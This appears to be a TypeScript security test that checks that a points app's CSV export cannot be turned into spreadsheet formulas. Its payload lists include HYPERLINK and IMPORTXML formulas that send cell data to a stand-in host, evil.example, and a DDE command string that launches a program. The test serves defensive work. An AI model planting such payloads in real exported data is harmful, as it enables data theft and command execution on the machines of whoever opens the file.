import { urlOf } from '#shared/contracts/contract.ts';
import { adjustPoints, completeTask, downloadPoints } from '#shared/contracts/points.ts';
import { attack, spread } from '#tests/support/attack.ts';
import { createHome } from '#tests/support/home.ts';
import { readCsv } from '#tests/support/read-csv.ts';

const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  ' =',
  '"=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '","=',
  '"\r\n"=',
];
const FORMULAS = [
  '1+1',
  'HYPERLINK("http://evil.example?"&A1,"Click")',
  "cmd|' /C calc'!A0",
  'IMPORTXML("http://evil.example","//a")',
  'SUM(1;2)',
  'A1&",="&B1',
];

/** Beginning of a text that a spreadsheet computes. */
const IS_FORMULA = /^\s*[=+\-@＝＋－＠]/;

attack(
  'attack-9',
  'no text in an exported list of points is a formula to a spreadsheet',
  { short: 40, full: BEGINNINGS.length * FORMULAS.length * 2 },
  async (tries) => {
    const home = await createHome();
    const params = { userId: home.id.child };
    const all = BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => `${beginning}${formula}`)).flatMap(
      (text) => [
        { text, as: 'reason' },
        { text, as: 'task' },
      ],
    );
    const tried = spread(all, tries);
    for (const { text, as } of tried) {
      if (as === 'reason') {
        await home.as('admin').bad(adjustPoints, { params, body: { points: 5, reason: text } });
      } else {
        const task = await home.task({ text }, ['child']);
        await home
          .as('child')
          .ok(completeTask, { params: { taskId: task.id }, body: { ...params, date: home.clock.today } });
      }
    }
    const { payload } = await home.as('admin').raw('GET', urlOf(downloadPoints, { params }));
    const [header = [], ...rows] = readCsv(payload);
    const cells = rows.flat().filter((cell) => !/^-?\d+$/.test(cell));
    const isWhole = rows.length === tried.length && rows.every((row) => row.length === header.length);
    return { tries: tried.length, gotIn: cells.filter((cell) => IS_FORMULA.test(cell)).length + (isWhole ? 0 : 1) };
  },
);
